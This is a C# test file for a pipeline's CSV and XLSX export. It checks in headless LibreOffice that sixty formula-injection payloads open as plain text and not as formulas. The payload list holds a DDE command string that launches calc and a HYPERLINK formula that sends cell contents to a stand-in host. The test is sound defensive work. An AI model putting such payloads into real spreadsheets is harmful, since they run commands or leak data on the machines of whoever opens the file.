using System.Diagnostics;
using System.Xml.Linq;
using DocumentFormat.OpenXml;
using DocumentFormat.OpenXml.Packaging;
using DocumentFormat.OpenXml.Validation;
using Extractor.Pipeline.Delivery.Exports;

namespace Extractor.Pipeline.Tests.Delivery.Exports;

/// <summary>What spreadsheet programs make of the outputs.</summary>
public class SpreadsheetTests
{
    private static readonly ExportOptions Options = new("0.1.0");

    /// <summary>Texts that would be run as formulas, or as commands, by one program or another.</summary>
    private static readonly string[] Payloads =
    [
        .. from start in new[] { "=", "+", "-", "@", "\t=", "\r=", "\n=", "\0=", "＝", "'=", " =", "\"=" }
           from rest in new[] { "1+1", "cmd|' /C calc'!A0", "HYPERLINK(\"http://x/?\"&A1,\"open\")", "SUM(1;1)", "WEBSERVICE(\"http://x\")" }
           select start + rest,
    ];

    [Fact]
    public void The_workbook_is_valid_for_the_Open_XML_SDK()
    {
        using var folder = new TemporaryFolder();
        Export.Write(ExportFormat.Xlsx, folder.At("book.xlsx"), SampleDocuments.All, Options);
        using var book = SpreadsheetDocument.Open(folder.At("book.xlsx"), isEditable: false);
        var errors = new OpenXmlValidator(FileFormatVersions.Microsoft365).Validate(book);
        Assert.Empty(errors.Select(error => $"{error.Part?.Uri} {error.Path?.XPath}: {error.Description}"));
    }

    [Fact]
    public void Sixty_payloads_open_without_a_formula()
    {
        Assert.Equal(60, Payloads.Length);
        using var folder = new TemporaryFolder();
        Export.Write(ExportFormat.Csv, folder.At("csv"), [.. Payloads.Select((text, index) => SampleDocuments.Saying(text, index + 1))], Options);
        Export.Write(ExportFormat.Xlsx, folder.At("book.xlsx"), [.. Payloads.Select((text, index) => SampleDocuments.Saying(text, index + 1))], Options);
        // 44, 34, 76: comma, double quote, UTF-8.
        var tables = Opened(folder, "--infilter=CSV:44,34,76,1", [.. Directory.EnumerateFiles(folder.At("csv"), "*.csv")]);
        var books = Opened(folder, null, folder.At("book.xlsx"));

        Assert.Equal(7, tables.Count);
        Assert.Empty(tables.Concat(books).SelectMany(Formulas));
        // They were read, and not as one long text.
        Assert.Contains(books.Single().Descendants(), cell => cell.Value == "=1+1");
        Assert.Contains(tables.SelectMany(table => table.Descendants()), cell => cell.Value == "'=1+1");
    }

    private static IEnumerable<string> Formulas(XDocument opened) =>
        opened.Descendants().Attributes().Where(attribute => attribute.Name.LocalName == "formula").Select(attribute => attribute.Value);

    /// <summary>Opens files in LibreOffice, and gives what it understood, as flat OpenDocument.</summary>
    private static List<XDocument> Opened(TemporaryFolder folder, string? filter, params string[] files)
    {
        var output = folder.At("opened-" + Path.GetFileName(files[0]));
        string[] arguments =
        [
            "--headless", "-env:UserInstallation=file://" + folder.At("profile"), .. filter is null ? Array.Empty<string>() : [filter],
            "--convert-to", "fods", "--outdir", output, .. files,
        ];
        using var office = Process.Start(new ProcessStartInfo("soffice", arguments) { RedirectStandardOutput = true, RedirectStandardError = true })!;
        var said = office.StandardOutput.ReadToEndAsync();
        var complained = office.StandardError.ReadToEnd();
        office.WaitForExit();
        Assert.True(Directory.Exists(output), said.Result + complained);
        return [.. Directory.EnumerateFiles(output).Order(StringComparer.Ordinal).Select(path => XDocument.Load(path))];
    }
}
